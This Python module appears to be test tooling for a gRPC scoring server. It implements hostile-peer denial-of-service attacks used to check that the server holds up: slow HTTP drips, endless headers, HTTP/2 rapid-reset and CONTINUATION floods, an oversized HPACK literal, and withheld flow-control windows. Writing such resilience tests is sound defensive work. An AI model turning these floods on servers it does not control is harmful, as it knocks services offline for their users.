"""What hostile peers do to a server, for tests and for tests/soak/hostile_peers.py.

An attack needs only the addresses of the server, `server.grpc` and `server.http`.
"""

import contextlib
import select
import socket
import struct
import threading

from http2_frames import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    MAGIC,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    call_headers,
    frame,
    header,
    read_frame,
)
from scoring_rpc import request

MIB = 1 << 20
WINDOW = 65_535  # HTTP/2's window before the server announces another one
HEALTH_CHECK, HEALTH_WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"
CANCEL = struct.pack(">I", 8)


def connect(address: str, source: str = "", timeout: float = 20) -> socket.socket:
    if address.startswith("unix:"):
        connection = socket.socket(socket.AF_UNIX)
        connection.settimeout(timeout)
        connection.connect(address.removeprefix("unix:"))
        return connection
    host, port = address.rsplit(":", 1)
    return socket.create_connection(
        (host, int(port)), timeout=timeout, source_address=(source, 0) if source else None
    )


class Attack:
    """An attack is run over and over, by `clients` threads at once, until `is_over` is set."""

    clients = 1
    unit = ""  # of `amount`

    def __init__(self) -> None:
        self.amount = 0  # what was done so far

    def run(self, server, is_over: threading.Event) -> None:
        """Runs the attack once. An OSError means that the server has cut it off."""
        raise NotImplementedError


class Attackers:
    """Runs an attack until the end of a `with` block."""

    def __init__(self, server, attack: Attack) -> None:
        self.num_cut = 0  # how often the server has cut a client off
        self._is_over = threading.Event()
        self._threads = [
            threading.Thread(target=self._run, args=(server, attack)) for _ in range(attack.clients)
        ]

    def _run(self, server, attack: Attack) -> None:
        while not self._is_over.is_set():
            try:
                attack.run(server, self._is_over)
            except OSError:
                self.num_cut += 1

    def __enter__(self) -> "Attackers":
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._is_over.set()
        for thread in self._threads:
            thread.join()


class EndlessHttpHeaders(Attack):
    """Sends a request to the HTTP address whose headers never end."""

    clients = 2
    unit = "bytes of headers"

    def run(self, server, is_over: threading.Event) -> None:
        line = b"X: " + b"a" * 1000 + b"\r\n"
        with connect(server.http, timeout=5) as connection:
            connection.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
            while not is_over.is_set():
                connection.sendall(line * 16)
                self.amount += 16 * len(line)


class DrippedHttpBytes(Attack):
    """Holds connections to the HTTP address, each of which sends a byte every 50 ms."""

    unit = "connections held at once"

    def __init__(self, connections: int) -> None:
        super().__init__()
        self._connections = connections

    def run(self, server, is_over: threading.Event) -> None:
        with contextlib.ExitStack() as stack:
            dripping: list[socket.socket] = []
            while not is_over.wait(0.05):
                for connection in list(dripping):
                    try:
                        connection.sendall(b"x")
                    except OSError:  # the server has replaced it
                        dripping.remove(connection)
                for _ in range(min(4, self._connections - len(dripping))):
                    dripping.append(stack.enter_context(connect(server.http, timeout=5)))
                    dripping[-1].sendall(b"GET /metrics HTTP/1.1\r\nX: ")
                self.amount = max(self.amount, len(dripping))


class HeldConnections(Attack):
    """Opens connections, does no more than to begin, and holds them."""

    unit = "connections"

    def __init__(self, count: int, *, source: str = "", starts_calls: bool = False) -> None:
        """`source` is the address that the connections come from. A call that is started gets no message."""
        super().__init__()
        self._count, self._source, self._starts_calls = count, source, starts_calls

    def run(self, server, is_over: threading.Event) -> None:
        start = frame(HEADERS, END_HEADERS, 1, call_headers(server.grpc))
        with contextlib.ExitStack() as stack:
            for _ in range(self._count):
                held = stack.enter_context(connect(server.grpc, self._source))
                with contextlib.suppress(OSError):  # the server may have closed it
                    held.sendall(PREFACE + (start if self._starts_calls else b""))
                self.amount += 1
                if is_over.is_set():
                    return
            is_over.wait()


class DroppedConnections(Attack):
    """Opens connections and closes them at once."""

    unit = "connections"

    def run(self, server, is_over: threading.Event) -> None:
        connect(server.grpc).close()
        self.amount += 1


class Resets(Attack):
    """Starts calls and resets them at once, without waiting for the server."""

    unit = "calls"

    def __init__(self, count: int) -> None:
        super().__init__()
        self._count = count

    def run(self, server, is_over: threading.Event) -> None:
        headers = call_headers(server.grpc)
        flood = PREFACE + b"".join(
            frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, CANCEL)
            for stream in range(1, 2 * self._count, 2)
        )
        # Answers are read until the last of them, since the server drops what a closed connection has sent.
        with connect(server.grpc, timeout=120) as connection:
            connection.sendall(flood + frame(PING, 0, 0, b"12345678"))
            while True:
                kind, flags, _, _ = read_frame(connection)
                if kind == PING and flags & ACK:
                    break
            self.amount += self._count


class HeadersBeforeSettings(Attack):
    """Sends large headers without acknowledging the server's SETTINGS, which limit them."""

    clients = 6
    unit = "bytes of headers"
    BLOCK_BYTES = 12 * MIB  # gRPC closes the connection at 16 MiB
    FRAME_BYTES = 16_384

    def __init__(self, streams: int) -> None:
        """`streams` is the number of calls of a client."""
        super().__init__()
        self._streams = streams

    def run(self, server, is_over: threading.Event) -> None:
        line = header("x-filler", "a" * 4000)
        block = call_headers(server.grpc) + line * (self.BLOCK_BYTES // len(line))
        pieces = [block[i : i + self.FRAME_BYTES] for i in range(0, len(block), self.FRAME_BYTES)]
        with connect(server.grpc) as connection:
            connection.sendall(PREFACE)
            for stream in range(1, 2 * self._streams, 2):
                for i, piece in enumerate(pieces):
                    if is_over.is_set():
                        return
                    kind = CONTINUATION if i else HEADERS
                    flags = END_HEADERS if i + 1 == len(pieces) else 0
                    connection.sendall(frame(kind, flags, stream, piece))
                    self.amount += len(piece)
            is_over.wait()


class _EndlessHeaders(Attack):
    """Sends header blocks that never end, over connections that keep to the protocol before."""

    unit = "bytes of headers"

    def _first(self, server) -> bytes:
        return call_headers(server.grpc)

    def _next(self) -> bytes:
        """Returns the payload of each CONTINUATION frame."""
        raise NotImplementedError

    def run(self, server, is_over: threading.Event) -> None:
        with connect(server.grpc) as connection:
            connection.sendall(PREFACE)
            while read_frame(connection)[0] != SETTINGS:
                pass
            connection.sendall(frame(SETTINGS, ACK, 0) + frame(HEADERS, 0, 1, self._first(server)))
            piece = self._next()
            while not is_over.is_set():
                connection.sendall(frame(CONTINUATION, 0, 1, piece))
                self.amount += len(piece)


class EndlessContinuation(_EndlessHeaders):
    """Adds headers to a call without end."""

    clients = 8

    def _next(self) -> bytes:
        return header("x-filler", "a" * 4000) * 4


class EndlessLiteral(_EndlessHeaders):
    """Sends a header whose name should have a gigabyte, so that it is never complete."""

    clients = 4
    # A literal without indexing, and the length 127 + (2^30 - 127) as an HPACK integer of 7 bits (RFC 7541, 5.1).
    NAME_OF_A_GIGABYTE = b"\0\x7f\x81\xff\xff\xff\x03"

    def _first(self, server) -> bytes:
        return super()._first(server) + self.NAME_OF_A_GIGABYTE

    def _next(self) -> bytes:
        return b"a" * 16_384


class _Connection:
    """A connection that keeps to the server's flow control when it sends and grants the window `answers_window`."""

    def __init__(self, connection: socket.socket, answers_window: int = WINDOW) -> None:
        self._socket = connection
        self._window = WINDOW
        self._stream_window = WINDOW
        self._streams: dict[int, int] = {}  # windows of open streams
        self._answered: set[int] = set()  # streams whose response has begun
        settings = struct.pack(">HI", INITIAL_WINDOW_SIZE, answers_window)
        connection.sendall(MAGIC + frame(SETTINGS, 0, 0, settings))

    @property
    def num_open(self) -> int:
        return len(self._streams)

    def read(self) -> None:
        """Reads a frame and answers it."""
        kind, flags, stream, payload = read_frame(self._socket)
        if kind == SETTINGS and not flags & ACK:
            for name, value in struct.iter_unpack(">HI", payload):
                if name == INITIAL_WINDOW_SIZE:
                    for each in self._streams:
                        self._streams[each] += value - self._stream_window
                    self._stream_window = value
            self._socket.sendall(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self._socket.sendall(frame(PING, ACK, 0, payload))
        elif kind == WINDOW_UPDATE:
            (size,) = struct.unpack(">I", payload)
            if stream == 0:
                self._window += size
            elif stream in self._streams:
                self._streams[stream] += size
        elif kind == RST_STREAM or (kind in (HEADERS, DATA) and flags & END_STREAM):
            self._streams.pop(stream, None)
        elif kind == HEADERS:
            self._answered.add(stream)

    def read_within(self, seconds: float) -> bool:
        """Reads a frame and answers it if one begins to arrive in time. Returns whether one did."""
        if not select.select([self._socket], [], [], seconds)[0]:
            return False
        self.read()
        return True

    def start_call(self, stream: int, headers: bytes) -> None:
        self._streams[stream] = self._stream_window
        self._socket.sendall(frame(HEADERS, END_HEADERS, stream, headers))

    def take(self, stream: int, size: int) -> int:
        """Waits until the server takes at least a byte of the stream, and returns how many of `size` it takes: 0 if the
        stream has ended."""
        while stream in self._streams:
            taken = min(self._window, self._streams[stream], size)
            if taken > 0:
                self._window -= taken
                self._streams[stream] -= taken
                return taken
            self.read()
        return 0

    def await_response(self, stream: int) -> bool:
        """Waits until a response begins or the call fails, and returns whether a response has begun."""
        while stream in self._streams and stream not in self._answered:
            self.read()
        return stream in self._streams

    def send(self, frames: bytes) -> None:
        self._socket.sendall(frames)


class SmallFrames(Attack):
    """Sends all but the last byte of a message in DATA frames of one byte."""

    unit = "bytes of messages"
    BLOCK_FRAMES = 65_536

    def __init__(self, message_bytes: int, method: str = "/logprobd.v1.Scoring/Score") -> None:
        super().__init__()
        self._message_bytes, self._method = message_bytes, method

    def run(self, server, is_over: threading.Event) -> None:
        block = frame(DATA, 0, 1, b"\0") * self.BLOCK_FRAMES
        frame_bytes = len(block) // self.BLOCK_FRAMES
        with connect(server.grpc, timeout=60) as held:
            connection = _Connection(held)
            connection.start_call(1, call_headers(server.grpc, self._method))
            connection.take(1, 5)
            connection.send(frame(DATA, 0, 1, struct.pack(">BI", 0, self._message_bytes)))
            left = self._message_bytes - 1
            while left > 0 and not is_over.is_set():
                taken = connection.take(1, min(left, self.BLOCK_FRAMES))
                if taken == 0:
                    raise ConnectionResetError("the server ended the call")
                connection.send(block[: taken * frame_bytes])
                left -= taken
                self.amount += taken
            is_over.wait()


class HeldHealthCalls(Attack):
    """Makes calls of the health service that are to stay: watches, or checks whose answers it never takes."""

    unit = "calls"
    STREAMS = 256  # the default of --streams-max
    NAME = "n" * 180  # what gRPC's own service kept for each watch

    def __init__(
        self, connections: int, method: str, *, answers_window: int = WINDOW, source: str = ""
    ) -> None:
        """Connects from the address `source`, if one is given."""
        super().__init__()
        self._connections, self._method, self._window = connections, method, answers_window
        self._source = source

    def run(self, server, is_over: threading.Event) -> None:
        settings = struct.pack(">HI", INITIAL_WINDOW_SIZE, self._window)
        name = self.NAME if self._method == HEALTH_WATCH else ""
        message = b"\x0a\xb4\x01" + name.encode() if name else b""  # its length is 180
        body = struct.pack(">BI", 0, len(message)) + message
        headers = call_headers(server.grpc, self._method)
        calls = b"".join(
            frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, body)
            for stream in range(1, 2 * self.STREAMS, 2)
        )
        with contextlib.ExitStack() as stack:
            for _ in range(self._connections):
                held = stack.enter_context(connect(server.grpc, self._source))
                held.sendall(MAGIC + frame(SETTINGS, 0, 0, settings) + calls)
                self.amount += self.STREAMS
                if is_over.is_set():
                    return
            is_over.wait()


class UnreadAnswers(Attack):
    """Sends requests whose answers fill the server's limit, and never lets it send one. Replaces calls that it ends."""

    unit = "answers held"
    STREAMS = 200  # fewer than --streams-max
    # Rows and top_k of the requests: each of the best ids of a row adds 8 bytes to the answer, and the smaller answers
    # fill what the larger ones leave.
    SIZES = ((1024, 128), (64, 128), (4, 128), (1, 128), (1, 8), (1, 0))
    PAUSE_S = 0.05  # when nothing more can be held

    def __init__(self, hidden_size: int, metadata: dict[str, str] | None = None) -> None:
        """Without `metadata`, each call names a client of its own."""
        super().__init__()
        self._metadata = metadata
        messages = [
            request(rows=rows, hidden_size=hidden_size, targets=bytes(4 * rows), top_k=top_k)
            for rows, top_k in self.SIZES
        ]
        self._bodies = [
            struct.pack(">BI", 0, message.ByteSize()) + message.SerializeToString()
            for message in messages
        ]

    def run(self, server, is_over: threading.Event) -> None:
        with connect(server.grpc) as held:
            connection = _Connection(held, answers_window=0)
            stream = 1
            while not is_over.is_set():
                for body in self._bodies:
                    while connection.num_open < self.STREAMS and not is_over.is_set():
                        self._send(connection, stream, server.grpc, body)
                        stream += 2
                        if not connection.await_response(stream - 2):
                            break
                        self.amount += 1
                while connection.read_within(self.PAUSE_S):
                    pass

    def _send(self, connection: _Connection, stream: int, address: str, body: bytes) -> None:
        metadata = self._metadata or {"client_id": f"client {stream}"}
        connection.start_call(stream, call_headers(address, metadata=metadata))
        sent = 0
        while sent < len(body):
            taken = connection.take(stream, min(len(body) - sent, 16_384))
            if taken == 0:
                return
            flags = END_STREAM if sent + taken == len(body) else 0
            connection.send(frame(DATA, flags, stream, body[sent : sent + taken]))
            sent += taken
